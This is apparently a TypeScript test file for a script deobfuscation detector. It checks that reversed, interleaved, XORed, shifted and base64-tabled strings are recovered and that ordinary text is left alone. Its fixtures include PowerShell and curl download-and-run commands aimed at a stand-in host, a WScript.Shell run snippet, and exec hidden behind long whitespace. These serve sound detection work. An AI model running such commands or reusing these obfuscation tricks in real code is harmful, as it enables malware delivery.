// Words in disguise are found however they were taken apart, and ordinary text is left alone.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readScript } from '../../../src/file/formats/script/read.ts'
import {
  uncover,
  uncoverNumbers,
  uncoverTable,
  uncoverWithKeys,
} from '../../../src/file/formats/script/unroll/uncover.ts'

const plain = 'powershell -c Start-Process http://files.test/a.exe'
const codes = [...plain].map((char) => char.charCodeAt(0))
const interleaved = (stride: number): string =>
  [...plain].map((char) => 'qx'.repeat(stride).slice(1, stride) + char).join('')

const hits: readonly (readonly [string, string])[] = [
  ['reversed', [...plain].reverse().join('')],
  ['every third', interleaved(3)],
  ['every fifth', interleaved(5)],
  ['a sign between', [...plain].join('#')],
  ['a sign between, and turned', [...plain].reverse().join('~')],
  ['beside an address in the open', `http://files.test/ ${[...'powershell -nop -w hidden -c x'].join('^')}`],
]
for (const [name, constant] of hits)
  test(`uncovers words: ${name}`, () => assert.match(uncover(constant)?.text ?? '', /powershell/))

test('indentation is no sign between letters', () => {
  const block = ['function Test-Path', '{', 'param($a)', 'Invoke-Item $a', '}'].map((line) => ' '.repeat(60) + line)
  assert.equal(uncover(block.join('\n').replaceAll('-', ' - ')), null)
  assert.match(uncover([...plain].join(' '))?.text ?? '', /powershell/)
})

test('uncovers shifted and XORed codes', () => {
  assert.equal(uncoverNumbers(codes.map((code) => code ^ 0x5a))?.text, plain)
  assert.equal(uncoverNumbers(codes.map((code) => code + 3))?.text, plain)
  assert.equal(uncoverNumbers(codes)?.technique, 'character codes')
})

test('uncovers bytes XORed with a word of the script', () => {
  const bytes = Uint8Array.from(codes.map((code, at) => code ^ 'k3y!'.charCodeAt(at % 4)))
  assert.equal(uncoverWithKeys(bytes, ['other', 'k3y!'])?.text, plain)
})

test('uncovers tables in base64 of either alphabet, and pieces turned round', () => {
  const words = ['WScript.Shell', 'MSXML2.XMLHTTP', 'http://files.test/a', 'send', 'open']
  const table = words.map((word) => Buffer.from(word).toString('base64'))
  const swapped = table.map((word) =>
    word.replace(/[A-Za-z]/g, (char) => (char === char.toUpperCase() ? char.toLowerCase() : char.toUpperCase())),
  )
  assert.match(uncoverTable(table)?.text ?? '', /WScript\.Shell/)
  assert.match(uncoverTable(swapped)?.text ?? '', /WScript\.Shell/)
  const pieces = 'var a = new ActiveXObject("WScript.Shell"); a.Run("calc")'.match(/.{1,6}/g) ?? []
  assert.match(uncoverTable(pieces.map((one) => [...one].reverse().join('')))?.text ?? '', /ActiveXObject/)
})

const misses: readonly (readonly [string, string])[] = [
  ['prose', 'The quick brown fox jumps over the lazy dog, and power is in the shell of every node.'],
  ['an address', 'https://www.example.com/a/b/c?x=1&y=2&z=3'],
  ['a dashed word', 'power-shell-is-a-word-with-dashes-between-parts'],
  ['a table of numbers', '0.1,0.2,0.3,0.4,0.5,0.6,0.7,0.8,0.9'],
  [
    'base64 of a picture',
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  ],
  ['what stands in the open', plain],
]
for (const [name, constant] of misses) test(`leaves alone: ${name}`, () => assert.equal(uncover(constant), null))

test('leaves alone: numbers, tables of words, short lists', () => {
  assert.equal(uncoverNumbers(Array.from({ length: 300 }, (_, at) => (at * 7919) % 251)), null)
  assert.equal(uncoverNumbers([1, 2, 3]), null)
  assert.equal(
    uncoverTable(['document', 'window', 'location', 'create', 'Element', 'append', 'Child', 'style', 'color']),
    null,
  )
})

test('base64 with plus signs is decoded whole', () => {
  // Three of these signs are written "Pj4+".
  const script = `"""${'>>>'.repeat(20)}"""\nimport os, subprocess; subprocess.call("curl http://files.test/a", shell=True)`
  const encoded = Buffer.from(script).toString('base64')
  assert.ok(encoded.includes('+'))
  const { facts } = readScript(`import base64\nexec(base64.b64decode("${encoded}"))`, 'python')
  assert.ok(facts.urls.includes('http://files.test/a'))
})

test('a statement pushed out of sight is told, aligned tables are not', () => {
  const ids = (text: string): readonly string[] => readScript(text, 'python').facts.traits.map(({ id }) => id)
  assert.ok(ids(`x = 1${' '.repeat(300)};exec(y)\n`).includes('code_out_of_sight'))
  assert.ok(!ids(`x = 1${' '.repeat(300)}# a comment\n`).includes('code_out_of_sight'))
  assert.ok(!ids(`x = 1${' '.repeat(40)}; exec(y)\n`).includes('code_out_of_sight'))
})

test('long hostile constants cost little', () => {
  const began = process.cpuUsage()
  readScript(
    `x = "${'pq#r'.repeat(200_000)}"; y = [${'1,'.repeat(200_000)}1]; z = 1${' \t'.repeat(200_000)}!`,
    'javascript',
  )
  const { user } = process.cpuUsage(began)
  assert.ok(user < 3_000_000, `${user} µs`)
})
